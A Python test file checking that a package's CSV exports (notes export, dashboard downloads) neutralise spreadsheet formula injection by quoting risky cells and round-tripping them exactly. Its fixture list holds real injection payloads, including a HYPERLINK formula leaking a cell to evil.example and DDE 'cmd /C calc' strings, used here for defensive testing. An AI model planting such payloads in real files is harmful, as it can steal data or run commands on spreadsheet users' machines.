"""Spreadsheet-safe CSV: no cell of a file the package writes starts a formula.

Every CSV the package writes (the notes export, the dashboard's table downloads) goes
through ``mmbright_core.io.csv_safe``: a text cell starting with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return gets a ``'`` before it, and reading a notes export back takes it
off again, so hostile and ordinary notes alike round-trip exactly. A number (``-0.25``) is
not a formula: it is written as it is, and reads back as a number.
"""

from __future__ import annotations

import codecs
import csv
import io
import math
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from mmbright_core.cli import main
from mmbright_core.io.csv_safe import FORMULA_STARTS, frame_csv, protect, unprotect
from mmbright_core.notes import NotesStore, QueryKey
from mmbright_core.ui.common.render import csv_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",  # a note that really starts with '=
    "''+two quotes",
    "'plain quote",
    "mid\rline carriage return",
    "ordinary note, 'quoted' = fine",
]
KEYS = [QueryKey("demo", 1, "paper", "biology", f"q{i}") for i in range(len(HOSTILE))]


def is_number(cell: str) -> bool:
    try:
        return math.isfinite(float(cell)) and cell == cell.strip() and "_" not in cell
    except ValueError:
        return False


def dangerous_cells(text: str) -> list[str]:
    """The cells of CSV text that a spreadsheet would run as a formula (a number is none)."""
    rows = csv.reader(io.StringIO(text, newline=""))
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(FORMULA_STARTS) and not is_number(cell)
    ]


@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab1 "), max_size=12))
def test_unprotect_undoes_protect_and_protect_leaves_no_formula(text: str) -> None:
    assert unprotect(protect(text)) == text
    assert not protect(text).startswith(FORMULA_STARTS) or is_number(text)
    assert protect(text) == text or not is_number(text)


def test_one_quote_is_added_and_taken_off() -> None:
    cells = ("=1", "'=1", "-0.25", "+3", "-1e-05", "-inf", "-1+1", "'x", "x=1")
    assert [protect(t) for t in cells] == [
        "'=1",
        "''=1",
        "-0.25",
        "+3",
        "-1e-05",
        "'-inf",
        "'-1+1",
        "'x",
        "x=1",
    ]
    assert [unprotect(t) for t in ("'=1", "''=1", "'x", "'", "x")] == ["=1", "'=1", "'x", "'", "x"]


@pytest.fixture
def hostile_store(tmp_path: Path):
    with NotesStore(tmp_path / "notes.sqlite3") as store:
        store.add_tag("-minus tag")
        for key, text in zip(KEYS, HOSTILE, strict=True):
            store.set_note(key, text, author="=author()")
        store.set_tags(KEYS[0], ["-minus tag"])
        store.set_tags(KEYS[1], ["other", "-minus tag"])
        yield store


def test_notes_export_has_no_formula_cell_and_imports_back_exactly(hostile_store, tmp_path):
    text = hostile_store.export("csv")
    assert dangerous_cells(text) == []
    assert "'=HYPERLINK(" in text and ",'-minus tag," in text
    path = tmp_path / "notes.csv"
    path.write_bytes(text.encode("utf-8"))
    with NotesStore(tmp_path / "fresh.sqlite3") as fresh:
        fresh.import_(path)
        assert fresh.records() == hostile_store.records()
        assert [fresh.get(k).note for k in KEYS] == HOSTILE


def test_cli_export_to_a_file_and_to_standard_output(hostile_store, tmp_path, capsys):
    db, out = str(hostile_store.path), tmp_path / "out.csv"
    assert main(["notes", "export", "--db", db, "--out", str(out)]) == 0
    assert main(["notes", "export", "--db", db, "--format", "csv"]) == 0
    printed = capsys.readouterr().out
    for text in (out.read_bytes().decode("utf-8"), printed):
        assert dangerous_cells(text) == []
        assert len(list(csv.reader(io.StringIO(text, newline="")))) == len(HOSTILE) + 1


def test_dashboard_table_download_has_no_formula_cell() -> None:
    # A per-query comparison as the pages offer it: a hostile query text, a run whose
    # name starts a formula, negative deltas.
    frame = pd.DataFrame(
        {
            "domain": ["biology", "biology", "economics"],
            "query_id": ["q1", "@q2", "q3"],
            "query": [HOSTILE[0], "+what is this?", "plain"],
            "nDCG@10 (bm25)": [0.5, 0.25, float("nan")],
            "-delta (=run − bm25)": [-0.25, 0.0, -1e-20],
        }
    )
    text = csv_bytes(frame).decode("utf-8-sig")
    assert dangerous_cells(text) == []
    back = [[unprotect(cell) for cell in row] for row in csv.reader(io.StringIO(text))]
    assert back == list(csv.reader(io.StringIO(frame.to_csv(index=False))))
    assert frame_csv(frame) == text
    back_frame = pd.read_csv(io.StringIO(text))
    assert back_frame["'-delta (=run − bm25)"].tolist() == [-0.25, 0.0, -1e-20]
    assert back_frame["'-delta (=run − bm25)"].mean() == pytest.approx(-0.25 / 3)


def test_dashboard_csv_starts_with_a_bom_and_reads_back_in_pandas() -> None:
    """Excel opens a CSV as UTF-8 only after a byte-order mark; pandas reads past it."""
    frame = pd.DataFrame({"delta (ocr-bm25 − bm25)": [-0.25], "query": ["Über die Zelle"]})
    data = csv_bytes(frame)
    assert data.startswith(codecs.BOM_UTF8) and data.count(codecs.BOM_UTF8) == 1
    back = pd.read_csv(io.BytesIO(data))
    assert list(back.columns) == list(frame.columns) and back["query"][0] == "Über die Zelle"
